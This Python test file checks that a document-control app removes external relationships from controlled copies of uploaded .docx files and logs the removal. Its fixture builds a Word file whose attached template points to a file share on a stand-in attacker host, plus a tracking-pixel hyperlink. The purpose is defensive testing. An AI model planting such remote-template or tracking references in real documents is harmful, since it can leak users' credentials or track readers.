"""A .docx that points outside itself (an attached template on a share, a hyperlink): the original keeps its bytes,
the controlled copy carries no external relationship and no reference left dangling, and the history says so."""

import io
import re
import zipfile

from docx import Document as DocxDocument
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from app.reports.controlled_copy import docx_header_text
from tests.factories import docx_bytes, register, upload

TEMPLATE = "file://attacker.example/share/corporate.dotm"
SITE = "https://tracker.example/pixel?doc=1"
ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def linked_docx() -> bytes:
    document = DocxDocument()
    paragraph = document.add_paragraph("碳排放管理制度 见")
    link_id = document.part.relate_to(SITE, RT.HYPERLINK, is_external=True)
    hyperlink = OxmlElement("w:hyperlink")
    hyperlink.set(qn("r:id"), link_id)
    run = OxmlElement("w:r")
    text = OxmlElement("w:t")
    text.text = "外部网站"
    run.append(text)
    hyperlink.append(run)
    paragraph._p.append(hyperlink)
    settings_part = document.part._settings_part
    template_id = settings_part.relate_to(TEMPLATE, ATTACHED_TEMPLATE, is_external=True)
    attached = OxmlElement("w:attachedTemplate")
    attached.set(qn("r:id"), template_id)
    settings_part.element.append(attached)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def _external_targets(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        rels = [archive.read(name).decode() for name in archive.namelist() if name.endswith(".rels")]
    return [m for text in rels for m in re.findall(r'Target="([^"]+)"[^>]*TargetMode="External"', text)]


def _dangling_references(content: bytes) -> list[str]:
    """r:… attributes whose id has no relationship in the part's .rels."""
    dangling = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = set(archive.namelist())
        for name in names:
            if not name.endswith(".xml") or name.startswith("[") or "/_rels/" in name:
                continue
            folder, base = name.rsplit("/", 1) if "/" in name else ("", name)
            rels_name = f"{folder}/_rels/{base}.rels" if folder else f"_rels/{base}.rels"
            ids = set(re.findall(r'Id="([^"]+)"', archive.read(rels_name).decode())) if rels_name in names else set()
            xml = archive.read(name).decode()
            prefixes = set(re.findall(r'xmlns:(\w+)="' + re.escape(R_NS) + '"', xml))
            for prefix in prefixes:
                dangling += [f"{name}:{v}" for v in re.findall(rf'\b{prefix}:\w+="([^"]+)"', xml) if v not in ids]
    return dangling


def test_controlled_copy_strips_external_relationships_and_history_says_so(park):
    content = linked_docx()
    assert sorted(_external_targets(content)) == sorted([TEMPLATE, SITE])
    document = register(park, "CARBON_MANAGEMENT_RULES")
    revision = upload(park, document["id"], content, name="制度.docx")
    assert revision.status_code == 201, revision.text
    revision_id = revision.json()["id"]

    copy = park.client.get(f"/api/revisions/{revision_id}/file", headers=park.headers("coordinator"))
    assert copy.status_code == 200 and copy.headers["x-controlled-copy"] == "draft"
    assert copy.headers["x-external-links-removed"] == "2"
    assert _external_targets(copy.content) == []
    assert _dangling_references(copy.content) == []
    opened = DocxDocument(io.BytesIO(copy.content))
    assert "外部网站" in opened.paragraphs[0].text  # the link's text stays, its target goes
    assert "草稿/未生效" in docx_header_text(copy.content)

    original = park.client.get(f"/api/revisions/{revision_id}/file?original=true", headers=park.headers("coordinator"))
    assert original.content == content

    history = park.client.get(f"/api/documents/{document['id']}", headers=park.headers("coordinator")).json()["history"]
    (event,) = [e for e in history if e["action"] == "revision.external_links"]
    assert event["entity_id"] == str(revision_id)
    assert event["after"]["count"] == 2 and event["after"]["controlled_copies"] == "removed"
    assert sorted(event["after"]["targets"]) == sorted([f"attachedTemplate: {TEMPLATE}", f"hyperlink: {SITE}"])
    assert event["after"]["note"].startswith("受控副本已去除")


def test_a_docx_without_external_links_has_no_such_event_and_no_header(park):
    document = register(park, "CARBON_MANAGEMENT_RULES")
    revision_id = upload(park, document["id"], docx_bytes("第一条")).json()["id"]
    copy = park.client.get(f"/api/revisions/{revision_id}/file", headers=park.headers("coordinator"))
    assert "x-external-links-removed" not in copy.headers
    history = park.client.get(f"/api/documents/{document['id']}", headers=park.headers("coordinator")).json()["history"]
    assert [e for e in history if e["action"] == "revision.external_links"] == []


def test_a_docx_with_an_unreadable_relationships_part_is_refused_at_upload(park):
    """A .rels part Word never reaches (so python-docx never reads it) with a broken checksum: 422, not a 500."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx_bytes("第一条"))) as source, zipfile.ZipFile(buffer, "w") as target:
        for info in source.infolist():
            target.writestr(info, source.read(info))
        rels = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'
        target.writestr(zipfile.ZipInfo("extra/_rels/item.xml.rels"), rels)
    content = bytearray(buffer.getvalue())
    content[content.rindex(b"<Relationships") + 1] ^= 0x20  # a stored entry: its CRC no longer matches
    document = register(park, "CARBON_MANAGEMENT_RULES")
    response = upload(park, document["id"], bytes(content))
    assert response.status_code == 422, response.text
    assert response.json()["message_zh"].startswith("文件已损坏")
